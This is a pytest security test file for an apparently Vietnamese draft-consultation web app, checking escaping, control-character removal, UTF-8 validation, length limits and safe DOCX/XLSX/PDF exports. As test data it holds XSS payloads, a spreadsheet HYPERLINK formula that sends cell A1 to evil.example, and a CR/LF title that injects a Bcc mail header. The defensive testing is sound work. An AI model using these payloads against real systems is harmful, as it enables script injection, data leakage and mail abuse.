"""Injected text: markup typed into every text the app shows is escaped on its pages, control characters never reach
the database, invalid UTF-8 in a form gets a 400 in Vietnamese, a 200 kB comment is refused without losing it, and
the synthesis exports (DOCX, XLSX, PDF) carry the text as text: no formula, no broken file.

The texts: an agency's comment and proposed wording, the draft title, the consultation title, the team's
explanations, agency names (the form and the directory file), and paper replies entered by the team.
"""

from __future__ import annotations

import html
import io
import re
import unicodedata
from datetime import timedelta
from email import message_from_bytes, policy
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote, urlencode

import pytest
import sqlalchemy as sa
from docx import Document
from openpyxl import load_workbook

from commentsvc.agencies.models import Agency
from commentsvc.consultations.models import Consultation, ConsultationStatus
from commentsvc.core.clock import now_utc
from commentsvc.drafts.models import Draft, DraftImport
from commentsvc.responses.forms import MAX_COMMENT
from commentsvc.responses.models import Comment, Reply
from commentsvc.synthesis.dispositions_xlsx import SHEET_TITLE
from commentsvc.synthesis.models import Disposition
from tests.jobs_helpers import run_queue
from tests.pdf_text import needs_pdftotext, pdf_text
from tests.web.drafts_helpers import SAMPLES, preview_token_of, upload
from tests.web.synthesis_helpers import disposition_of
from tests.web.test_consultations import form_data
from tests.web.test_dispositions_xlsx import _confirm as _confirm_sheet
from tests.web.test_dispositions_xlsx import _export as _export_sheet
from tests.web.test_dispositions_xlsx import _set as _set_row
from tests.web.test_dispositions_xlsx import _upload as _upload_sheet
from tests.web.test_paper_replies import record
from tests.web.test_responses import clauses_of, comment, url
from tests.web.test_responses_submit import reply_of, submit
from tests.web.test_revisions_rounds import open_round_two, round_one
from tests.web.test_security_files import table_rows

SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
PAYLOAD = f'"><{SCRIPT[1:]}<img src=x onerror=alert(2)>'  # breaks out of an attribute, then a tag of its own
CONTROLS = "\x00\x01\x07\x08\x1b\x7f\x9b"  # NUL, SOH, BEL, BS, ESC, DEL, CSI (C1)
CONTROLS_XML = "\x7f\x9b"  # the ones XML 1.0, hence a spreadsheet, can hold
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(1,1)")


def assert_escaped(page: str, *, where: str = "") -> None:
    """The payload shows as text: no live <script> or <img onerror>, the escaped form is on the page."""
    assert SCRIPT not in page, where
    assert "<img src=x" not in page, where
    assert ESCAPED in page, where


def stored_texts(db) -> list[str]:
    """Every text column of every row: none may keep a control character other than tab and line breaks."""
    db.session.expire_all()
    texts = []
    for table in db.metadata.sorted_tables:
        columns = [column for column in table.columns if isinstance(column.type, sa.String | sa.Text)]
        if columns:
            for row in db.session.execute(sa.select(*columns)):
                texts.extend(value for value in row if isinstance(value, str))
    return texts


def visible(text: str) -> str:
    """``text`` without control characters other than tab and line breaks."""
    return "".join(char for char in text if unicodedata.category(char) != "Cc" or char in "\t\n\r")


def has_controls(text: str) -> bool:
    return any(unicodedata.category(char) == "Cc" and char not in "\t\n\r" for char in text)


# --- markup is escaped on every page that shows the text ----------------------------------------------------------


def test_comment_and_wording_are_escaped_on_the_agency_pages(app, client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    clause = clauses_of(db, consultation)[1]
    login(factory.member(agency, can_submit=True))
    assert comment(client, consultation, clause.id, PAYLOAD, PAYLOAD).status_code == 303
    assert comment(client, consultation, None, PAYLOAD).status_code == 303
    saved = db.session.scalars(sa.select(Comment).order_by(Comment.id)).all()
    assert [c.text for c in saved] == [PAYLOAD, PAYLOAD] and saved[0].proposed_wording == PAYLOAD  # kept as typed

    assert_escaped(client.get(url(consultation)).get_data(as_text=True), where="consultation page")
    assert_escaped(client.get(url(consultation, "/submit")).get_data(as_text=True), where="submit page")
    stale = client.post(url(consultation, f"/comments/{saved[0].id}"), data={"text": PAYLOAD + " sửa", "version": 0})
    assert stale.status_code == 409
    assert_escaped(stale.get_data(as_text=True), where="conflict page")

    assert submit(client, consultation, "agree_with_comments").status_code == 303
    assert_escaped(client.get(url(consultation, "/receipt")).get_data(as_text=True), where="receipt page")
    receipt = client.get(url(consultation, "/receipt.docx"))
    assert receipt.status_code == 200 and Document(io.BytesIO(receipt.data)).paragraphs  # re-opens


def test_draft_title_is_escaped_from_upload_to_list(client, factory, login, db):
    login(factory.drafter())
    response = upload(client, (SAMPLES / "thong-tu-mau.md").read_bytes(), "thong-tu.md", title=PAYLOAD)
    pending_id = preview_token_of(response)
    assert_escaped(client.get(f"/drafts/imports/{pending_id}").get_data(as_text=True), where="preview")
    assert client.post(f"/drafts/imports/{pending_id}/accept", data={}).status_code in (302, 303)
    draft = db.session.scalar(sa.select(Draft))
    assert draft.title == PAYLOAD
    assert_escaped(client.get("/drafts/").get_data(as_text=True), where="drafts list")
    assert_escaped(client.get(f"/drafts/{draft.id}").get_data(as_text=True), where="draft page")
    assert_escaped(client.get(f"/drafts/{draft.id}/versions/1").get_data(as_text=True), where="version page")


def test_consultation_title_is_escaped_for_the_team_and_the_agency(app, client, factory, login, db):
    unit = factory.unit()
    version = factory.draft_version(unit)
    agency = factory.agency()
    login(factory.drafter(unit))
    assert client.post("/consultations/new", data=form_data(version, title=PAYLOAD)).status_code == 302
    consultation = db.session.scalar(sa.select(Consultation))
    assert consultation.title == PAYLOAD
    assert_escaped(client.get(f"/consultations/{consultation.id}").get_data(as_text=True), where="detail")
    assert_escaped(client.get("/consultations/").get_data(as_text=True), where="list")
    edit = client.get(f"/consultations/{consultation.id}/edit").get_data(as_text=True)
    assert_escaped(edit, where="edit form")
    assert 'value="&#34;&gt;&lt;script&gt;' in edit  # the attribute is not broken out of

    client.post(f"/consultations/{consultation.id}/recipients/add", data={"agency_ids": [agency.id]})
    assert client.post(f"/consultations/{consultation.id}/open", data={}).status_code == 302
    member = login(factory.member(agency), the_client=app.test_client())
    assert_escaped(member.get("/agency/").get_data(as_text=True), where="agency inbox")
    assert_escaped(member.get(url(consultation)).get_data(as_text=True), where="agency consultation page")


def test_agency_name_is_escaped_from_the_form_and_the_directory(client, factory, login, db):
    login(factory.admin())
    data = {"code": "XSS", "name": PAYLOAD, "short_name": PAYLOAD, "group": "ministry", "is_active": "y"}
    assert client.post("/agencies/new", data=data).status_code == 302
    assert_escaped(client.get("/agencies/").get_data(as_text=True), where="directory")
    csv = f'code,name,short_name,group\nXSS2,"{PAYLOAD.replace(chr(34), chr(34) * 2)}",,province\n'
    imported = client.post(
        "/agencies/import", data={"file": (io.BytesIO(csv.encode()), "d.csv")}, content_type="multipart/form-data"
    )
    assert imported.status_code == 302
    assert db.session.scalar(sa.select(Agency.name).where(Agency.code == "XSS2")) == PAYLOAD
    assert_escaped(client.get("/agencies/").get_data(as_text=True), where="directory after import")
    bad_code = f"code,name,short_name,group\n{SCRIPT},Tên,,ministry\n"
    refused = client.post(
        "/agencies/import", data={"file": (io.BytesIO(bad_code.encode()), "d.csv")}, content_type="multipart/form-data"
    )
    assert refused.status_code == 400
    page = refused.get_data(as_text=True)
    assert SCRIPT.upper() not in page and "&lt;SCRIPT&gt;" in page  # the message quotes the code, escaped


def test_audit_log_escapes_agency_names(app, client, factory, login, db):
    agency = factory.agency(name=f"Bộ {PAYLOAD}", short_name=f"Bộ {PAYLOAD}")
    consultation = factory.consultation(agencies=[agency])
    member = login(factory.member(agency), the_client=app.test_client())
    assert comment(member, consultation, None, "Ý kiến").status_code == 303  # audited with the agency
    login(factory.admin())
    assert_escaped(client.get("/admin/audit").get_data(as_text=True))


def test_paper_reply_texts_are_escaped(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    clause = clauses_of(db, consultation)[2]
    login(factory.drafter(consultation.drafting_unit))
    response = record(
        client,
        consultation,
        consultation.recipients[0],
        now_utc() - timedelta(hours=1),
        general=PAYLOAD,
        pasted=f"Tại {clause.ref}: {PAYLOAD}",
        letter_signer=PAYLOAD,
        letter_number="12/<b>UBND</b>",
        **{f"clause-{clause.id}": PAYLOAD},
    )
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert_escaped(page, where="paper reply")
    assert "<b>UBND</b>" not in page and "12/&lt;b&gt;UBND&lt;/b&gt;" in page
    assert {c.text for c in reply_of(db, agency).comments} >= {PAYLOAD}


def test_a_title_with_line_breaks_cannot_add_mail_headers(app_config, client, factory, login, db):
    """A draft title posted with CR/LF (no browser sends one, a script can) is the subject of every reminder."""
    login(factory.drafter())
    title = "Dự thảo A\r\nBcc: attacker@example.com\r\n\r\nNội dung giả"
    pending_id = preview_token_of(upload(client, (SAMPLES / "thong-tu-mau.md").read_bytes(), "a.md", title=title))
    assert client.post(f"/drafts/imports/{pending_id}/accept", data={}).status_code in (302, 303)
    draft = db.session.scalar(sa.select(Draft))
    agency = factory.agency(email="btp@example.com")
    consultation = factory.consultation(version=draft.versions[0], unit=draft.drafting_unit, agencies=[agency])
    sent = client.post(
        f"/consultations/{consultation.id}/reminders", data={"recipient_ids": [consultation.recipients[0].id]}
    )
    assert sent.status_code == 302
    assert "Đã xếp 1 thư đôn đốc vào hàng đợi gửi" in client.get(sent.headers["Location"]).get_data(as_text=True)
    run_queue()
    (eml,) = Path(app_config["MAIL_OUTBOX_DIR"]).glob("*.eml")
    message = message_from_bytes(eml.read_bytes(), policy=policy.default)
    assert message["Bcc"] is None and message["To"] == "btp@example.com"
    assert message["Subject"] == "Đôn đốc góp ý Dự thảo A Bcc: attacker@example.com Nội dung giả"


def test_the_longest_title_allowed_still_makes_a_reminder(app_config, client, factory, login, db):
    """The draft form allows 500 characters; the reminder's subject adds its own words and must still be stored."""
    consultation = factory.consultation()
    consultation.draft_version.draft.title = ("Dự thảo Nghị định quy định chi tiết " * 20)[:500]
    db.session.commit()
    login(factory.drafter(consultation.drafting_unit))
    recipient_ids = [r.id for r in consultation.recipients]
    sent = client.post(f"/consultations/{consultation.id}/reminders", data={"recipient_ids": recipient_ids})
    assert sent.status_code == 302
    assert "Đã xếp 2 thư đôn đốc vào hàng đợi gửi" in client.get(sent.headers["Location"]).get_data(as_text=True)
    run_queue()
    assert len(list(Path(app_config["MAIL_OUTBOX_DIR"]).glob("*.eml"))) == 2


def test_an_over_long_agency_name_in_the_directory_file_is_refused(client, factory, login, db):
    login(factory.admin())
    before = table_rows(db)
    rows = (f"LONG,{'Bộ ' * 100},,ministry", f"LONG,Bộ Dài,{'Bộ ' * 50},ministry", f"LONG,{'Bộ ' * 50},,ministry")
    for row in rows:
        csv = f"code,name,short_name,group\n{row}\n".encode()
        response = client.post(
            "/agencies/import", data={"file": (io.BytesIO(csv), "d.csv")}, content_type="multipart/form-data"
        )
        assert response.status_code == 400, response.get_data(as_text=True)[:1000]
        page = response.get_data(as_text=True)
        assert "Dòng 2: tên" in page and "quá dài (tối đa" in page
    assert table_rows(db) == before


def test_a_long_agency_name_needs_a_short_name_on_the_form(client, factory, login, db):
    login(factory.admin())
    before = table_rows(db)
    data = {"code": "LONG", "name": "Bộ " * 50, "short_name": "", "group": "ministry", "is_active": "y"}
    response = client.post("/agencies/new", data=data)
    assert response.status_code == 400
    assert "Tên đầy đủ dài hơn 120 ký tự: vui lòng nhập tên ngắn." in response.get_data(as_text=True)
    assert table_rows(db) == before
    assert client.post("/agencies/new", data=data | {"short_name": "Bộ Dài"}).status_code == 302


# --- a closed consultation full of hostile text: the team's pages and the exports ----------------------------------


@pytest.fixture
def hostile(factory, client, login, db):
    """A closed consultation whose draft, title, agency and comments all carry markup, formulas and controls;
    the team's explanation is saved through the dispositions page."""
    unit = factory.unit()
    drafter = factory.drafter(unit)
    version = factory.draft_version(unit, title=f"Dự thảo {PAYLOAD}")
    agency = factory.agency("XSS", f"Bộ {PAYLOAD}", short_name=f"Bộ {PAYLOAD}")
    other = factory.agency("BTP", "Bộ Tư pháp")
    now = now_utc()
    consultation = factory.consultation(
        version=version,
        unit=unit,
        agencies=[agency, other],
        opens_at=now - timedelta(days=10),
        deadline_at=now - timedelta(days=1),
        status=ConsultationStatus.CLOSED,
    )
    consultation.title = f"Lấy ý kiến {PAYLOAD}"
    db.session.commit()
    clauses = clauses_of(db, consultation)
    texts = [PAYLOAD, *FORMULAS]
    factory.reply(consultation, agency, comments=[(clauses[1].id, text) for text in texts])
    # Stored before input was cleaned (or by a script): the exports must still open and keep the words.
    # (PostgreSQL cannot store NUL at all, so the old data has the others.)
    legacy = CONTROLS.replace("\x00", "")
    factory.reply(consultation, other, comments=[(None, f"Ý kiến{legacy} có ký tự điều khiển")])
    login(drafter)
    assert client.get(f"/consultations/{consultation.id}/dispositions").status_code == 200
    group = disposition_of(db, PAYLOAD)
    prefix = f"d{group.id}"
    fields = {f"{prefix}-decision": "explained", f"{prefix}-explanation": f"=1+1 {PAYLOAD}", f"{prefix}-version": 1}
    saved = client.post(f"/consultations/{consultation.id}/dispositions/{group.id}", data=fields)
    assert saved.status_code == 302, saved.get_data(as_text=True)[:2000]
    db.session.expire_all()
    assert db.session.get(Disposition, group.id).explanation == f"=1+1 {PAYLOAD}"
    return consultation


TEAM_PAGES = (
    "",
    "/replies",
    "/tracking",
    "/tracking/print",
    "/dispositions",
    "/synthesis",
)


@pytest.mark.parametrize("page", TEAM_PAGES, ids=[p.strip("/") or "detail" for p in TEAM_PAGES])
def test_team_pages_escape_every_text(client, hostile, page):
    response = client.get(f"/consultations/{hostile.id}{page}")
    assert response.status_code == 200
    assert_escaped(response.get_data(as_text=True), where=page)


def test_reply_page_escapes_comments(client, hostile, db):
    reply = db.session.scalar(sa.select(Reply).join(Reply.recipient).where(Reply.comments.any(Comment.text == PAYLOAD)))
    page = client.get(f"/consultations/{hostile.id}/replies/{reply.id}").get_data(as_text=True)
    assert_escaped(page)


def _export(client, consultation, fmt: str) -> bytes:
    response = client.get(f"/consultations/{consultation.id}/synthesis/export.{fmt}")
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    return response.data


def test_docx_export_reopens_with_the_text_as_written(client, hostile):
    document = Document(io.BytesIO(_export(client, hostile, "docx")))
    cells = "\n".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
    text = "\n".join(p.text for p in document.paragraphs) + "\n" + cells
    for expected in (PAYLOAD, f"Bộ {PAYLOAD}", f"=1+1 {PAYLOAD}", *FORMULAS):
        assert expected in text, expected
    assert f"Dự thảo {PAYLOAD}".upper() in text.upper()
    assert "Ý kiến có ký tự điều khiển" in visible(text)


def _cells(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("path", ["synthesis/export.xlsx", "dispositions.xlsx", "tracking.xlsx"])
def test_xlsx_exports_have_no_formulas(client, hostile, path):
    response = client.get(f"/consultations/{hostile.id}/{path}")
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    workbook = load_workbook(io.BytesIO(response.data))  # re-opens
    cells = _cells(workbook)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # openpyxl marks formulas "f"
    risky = [
        cell for cell in cells if isinstance(cell.value, str) and cell.value.lstrip().startswith(("=", "+", "-", "@"))
    ]
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert any(f"Bộ {PAYLOAD}" in value for value in values)  # the agency, in every sheet that names agencies
    if path != "tracking.xlsx":
        assert any("Ý kiến có ký tự điều khiển" in visible(value) for value in values)
    if path != "tracking.xlsx":
        assert set(FORMULAS) <= {line.split(": ", 1)[-1] for value in values for line in value.split("\n")}


@needs_pdftotext
def test_pdf_export_prints_the_text(client, hostile):
    text = pdf_text(_export(client, hostile, "pdf"), "-layout")
    flat = " ".join(text.split())
    assert SCRIPT in flat and "onerror=alert(2)" in flat  # printed as text, not interpreted
    assert "HYPERLINK" in flat and "@SUM(1,1)" in flat and "có ký tự điều khiển" in flat


def test_dispositions_sheet_text_is_escaped_and_cleaned(client, hostile, db):
    """Text that comes back in the dispositions sheet: shown escaped on the preview, stored without controls
    (Excel writes them as XML character references, which openpyxl reads back)."""
    scene = SimpleNamespace(consultation=hostile)  # what the dispositions sheet helpers read
    workbook = _export_sheet(client, scene)
    group = disposition_of(db, FORMULAS[1])
    _set_row(workbook[SHEET_TITLE], group.id, "Tiếp thu", f"Đã sửa{CONTROLS_XML} theo ý kiến {PAYLOAD}")
    preview = _upload_sheet(client, scene, workbook)
    assert preview.status_code == 200
    page = preview.get_data(as_text=True)
    assert_escaped(page, where="import preview")
    assert _confirm_sheet(client, scene, page).status_code == 302
    db.session.expire_all()
    assert db.session.get(Disposition, group.id).explanation == f"Đã sửa theo ý kiến {PAYLOAD}"


def test_round_two_carryover_escapes_and_exports_round_one_text(client, factory, login, db):
    first, new, justice, _police = round_one(factory, db)
    reply = reply_of(db, justice)
    reply.comments[0].text, reply.comments[1].text = PAYLOAD, FORMULAS[0]
    reply.comments[0].disposition.explanation = f"=1+1 {PAYLOAD}"
    db.session.commit()
    login(factory.drafter(first.drafting_unit))
    second = open_round_two(client, first, new)
    base = f"/drafts/rounds/{second.id}/carryover"
    assert_escaped(client.get(base).get_data(as_text=True), where="carry-over page")
    document = Document(io.BytesIO(client.get(f"{base}.docx").data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert {PAYLOAD, FORMULAS[0], f"Tiếp thu: =1+1 {PAYLOAD}"} <= set(cells)
    workbook = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").data))
    sheet_cells = _cells(workbook)
    assert not [cell.coordinate for cell in sheet_cells if cell.data_type == "f"]
    risky = [
        cell for cell in sheet_cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
    assert FORMULAS[0] in {cell.value for cell in risky}
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    member = login(factory.member(justice), the_client=client.application.test_client())
    assert_escaped(member.get(f"/agency/revisions/{first.id}").get_data(as_text=True), where="agency's outcome page")


# --- control characters never reach the database -----------------------------------------------------------------

TYPED = f"Ý kiến{CONTROLS} có ký tự điều khiển"


def _post_comment(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.member(agency))
    return comment(client, consultation, None, TYPED, TYPED)


def _post_draft_title(client, factory, login, db):
    login(factory.drafter())
    return upload(client, (SAMPLES / "thong-tu-mau.md").read_bytes(), "a.md", title=TYPED)


def _post_consultation_title(client, factory, login, db):
    unit = factory.unit()
    version = factory.draft_version(unit)
    login(factory.drafter(unit))
    return client.post("/consultations/new", data=form_data(version, title=TYPED, contact_name=TYPED))


def _post_agency(client, factory, login, db):
    login(factory.admin())
    return client.post("/agencies/new", data={"code": "CTRL", "name": TYPED, "short_name": TYPED, "group": "ministry"})


def _post_directory(client, factory, login, db):
    login(factory.admin())
    csv = f"code,name,short_name,group\nCTRL,{TYPED},{TYPED},ministry\n".encode()
    return client.post(
        "/agencies/import", data={"file": (io.BytesIO(csv), "d.csv")}, content_type="multipart/form-data"
    )


def _post_paper(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.drafter(consultation.drafting_unit))
    return record(
        client, consultation, consultation.recipients[0], now_utc(), general=TYPED, pasted=TYPED, letter_signer=TYPED
    )


def _post_explanation(client, factory, login, db):
    agency = factory.agency()
    now = now_utc()
    consultation = factory.consultation(
        agencies=[agency], opens_at=now - timedelta(days=3), deadline_at=now - timedelta(days=1)
    )
    consultation.status = ConsultationStatus.CLOSED
    db.session.commit()
    factory.reply(consultation, agency, comments=[(None, "Một ý kiến")])
    login(factory.drafter(consultation.drafting_unit))
    client.get(f"/consultations/{consultation.id}/dispositions")
    group = disposition_of(db, "Một ý kiến")
    fields = {f"d{group.id}-decision": "explained", f"d{group.id}-explanation": TYPED, f"d{group.id}-version": 1}
    return client.post(f"/consultations/{consultation.id}/dispositions/{group.id}", data=fields)


CONTROL_POINTS = {
    "comment": _post_comment,
    "draft-title": _post_draft_title,
    "consultation-title": _post_consultation_title,
    "agency-form": _post_agency,
    "agency-directory": _post_directory,
    "paper-reply": _post_paper,
    "explanation": _post_explanation,
}


@pytest.mark.parametrize("point", sorted(CONTROL_POINTS))
def test_control_characters_are_removed_before_storing(client, factory, login, db, point):
    response = CONTROL_POINTS[point](client, factory, login, db)
    assert response.status_code < 500, response.get_data(as_text=True)[:2000]
    texts = stored_texts(db)
    assert not [text for text in texts if has_controls(text)]
    if response.status_code < 400:  # accepted: the words are kept, only the controls went
        assert "Ý kiến có ký tự điều khiển" in texts


# --- invalid UTF-8 in a form body ---------------------------------------------------------------------------------


def _csrf_body(client, fields: dict) -> bytes:
    return urlencode({**fields, "csrf_token": client.csrf_token()}).encode()


BAD_UTF8 = b"\xc3\x28 \xff\xfe \xed\xa0\x80"  # a broken sequence, bytes never in UTF-8, an encoded surrogate


def _urlencoded_raw(client, fields, name):
    return _csrf_body(client, fields) + f"&{name}=".encode() + BAD_UTF8, "application/x-www-form-urlencoded"


def _urlencoded_escaped(client, fields, name):
    escaped = quote(BAD_UTF8, safe="").encode()
    return _csrf_body(client, fields) + f"&{name}=".encode() + escaped, "application/x-www-form-urlencoded"


def _multipart(client, fields, name):
    boundary = "----commentsvc-test"
    parts = [(key, str(value).encode()) for key, value in {**fields, "csrf_token": client.csrf_token()}.items()]
    parts.append((name, BAD_UTF8))
    body = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode() + value + b"\r\n"
        for key, value in parts
    )
    return body + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


ENCODINGS = {"raw-urlencoded": _urlencoded_raw, "percent-urlencoded": _urlencoded_escaped, "multipart": _multipart}


def _comment_form(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.member(agency))
    return url(consultation, "/comments"), {"clause_id": "", "proposed_wording": ""}, "text"


def _agency_form(client, factory, login, db):
    login(factory.admin())
    return "/agencies/new", {"code": "UTF", "short_name": "", "group": "ministry"}, "name"


def _consultation_form(client, factory, login, db):
    unit = factory.unit()
    version = factory.draft_version(unit)
    login(factory.drafter(unit))
    return "/consultations/new", form_data(version), "title"


def _login_form(client, factory, login, db):
    user = factory.member()
    return "/login", {"username": user.username}, "password"


UTF8_FORMS = {
    "comment": _comment_form,
    "agency": _agency_form,
    "consultation": _consultation_form,
    "login": _login_form,
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("form", sorted(UTF8_FORMS))
def test_invalid_utf8_in_a_form_gets_a_400(client, factory, login, db, form, encoding):
    target, fields, name = UTF8_FORMS[form](client, factory, login, db)
    fields.pop(name, None)
    body, content_type = ENCODINGS[encoding](client, fields, name)
    before = table_rows(db)
    response = client.post(target, data=body, content_type=content_type, csrf=False)
    assert response.status_code == 400, response.get_data(as_text=True)[:2000]
    assert "Dữ liệu gửi lên không phải văn bản UTF-8 hợp lệ." in response.get_data(as_text=True)
    assert table_rows(db) == before


def test_invalid_utf8_in_a_draft_upload_title_gets_a_400(client, factory, login, db):
    login(factory.drafter())
    fields = {"kind": "decree"}
    body, content_type = _multipart(client, fields, "title")
    file_part = (
        b'Content-Disposition: form-data; name="file"; filename="a.md"\r\nContent-Type: text/markdown\r\n\r\n'
        + (SAMPLES / "thong-tu-mau.md").read_bytes()
        + b"\r\n"
    )
    body = body.replace(
        b"------commentsvc-test--", b"------commentsvc-test\r\n" + file_part + b"------commentsvc-test--"
    )
    before = table_rows(db)
    response = client.post("/drafts/new", data=body, content_type=content_type, csrf=False)
    assert response.status_code == 400
    assert "Dữ liệu gửi lên không phải văn bản UTF-8 hợp lệ." in response.get_data(as_text=True)
    assert table_rows(db) == before


def test_valid_utf8_in_every_encoding_is_accepted(client, factory, login, db):
    """The check refuses only what is not UTF-8: Vietnamese typed raw, percent-escaped or in multipart goes in, and so
    does a U+FFFD the user really typed (pasted from a damaged document)."""
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.member(agency))
    target = url(consultation, "/comments")
    raw = _csrf_body(client, {"clause_id": ""}) + b"&text=" + "Ý kiến một".encode()
    assert client.post(target, data=raw, content_type="application/x-www-form-urlencoded").status_code == 303
    escaped = _csrf_body(client, {"clause_id": "", "text": "Ý kiến hai \ufffd"})
    assert client.post(target, data=escaped, content_type="application/x-www-form-urlencoded").status_code == 303
    fields = {"clause_id": "", "text": "Ý kiến ba \ufffd", "proposed_wording": "Sửa thành \ufffd"}
    assert client.post(target, data=fields, content_type="multipart/form-data").status_code == 303
    stored = db.session.scalars(sa.select(Comment.text).order_by(Comment.id)).all()
    assert stored == ["Ý kiến một", "Ý kiến hai \ufffd", "Ý kiến ba \ufffd"]


# --- a very long comment ------------------------------------------------------------------------------------------


def test_a_200_kb_comment_is_refused_and_kept_in_the_form(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.member(agency))
    long_text = ("Đề nghị rà soát lại toàn bộ khoản này. " * 6000)[:200_000]
    assert len(long_text) == 200_000 > MAX_COMMENT
    response = comment(client, consultation, None, long_text)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Ý kiến quá dài" in page
    assert re.search(r"<textarea[^>]*>\s*" + re.escape(html.escape(long_text[:200], quote=False)), page)
    assert html.escape(long_text, quote=False) in page  # all of it, nothing lost
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Comment)) == 0


def test_a_200_kb_edit_is_refused_and_the_saved_comment_kept(client, factory, login, db):
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    login(factory.member(agency))
    assert comment(client, consultation, None, "Ý kiến đã lưu").status_code == 303
    saved = db.session.scalar(sa.select(Comment))
    long_text = ("Đề nghị rà soát lại toàn bộ khoản này. " * 6000)[:200_000]
    response = client.post(url(consultation, f"/comments/{saved.id}"), data={"text": long_text, "version": 1})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Ý kiến quá dài" in page and html.escape(long_text, quote=False) in page
    db.session.expire_all()
    assert db.session.scalars(sa.select(Comment.text)).all() == ["Ý kiến đã lưu"]


def test_a_200_kb_paper_comment_is_refused_and_kept_in_the_form(client, factory, login, db):
    """The team's per-clause boxes and pasted paragraphs have the online comment's limit too."""
    agency = factory.agency()
    consultation = factory.consultation(agencies=[agency])
    clause = clauses_of(db, consultation)[1]
    login(factory.drafter(consultation.drafting_unit))
    long_text = ("Đề nghị rà soát lại toàn bộ khoản này. " * 6000)[:200_000]
    before = table_rows(db)
    for fields in ({f"clause-{clause.id}": long_text}, {"pasted": long_text[: 10 * MAX_COMMENT - 1]}):
        response = record(client, consultation, consultation.recipients[0], now_utc(), **fields)
        assert response.status_code == 400, response.status_code
        page = response.get_data(as_text=True)
        assert f"Ý kiến quá dài (tối đa {MAX_COMMENT:,} ký tự)".replace(",", ".") in page
        assert html.escape(next(iter(fields.values())), quote=False) in page  # nothing lost
        assert table_rows(db) == before


def test_a_very_long_draft_title_is_refused_in_vietnamese(client, factory, login, db):
    login(factory.drafter())
    response = upload(client, (SAMPLES / "thong-tu-mau.md").read_bytes(), "a.md", title="Dự thảo " * 25_000)
    assert response.status_code == 400 and "Tên quá dài." in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(DraftImport)) == 0
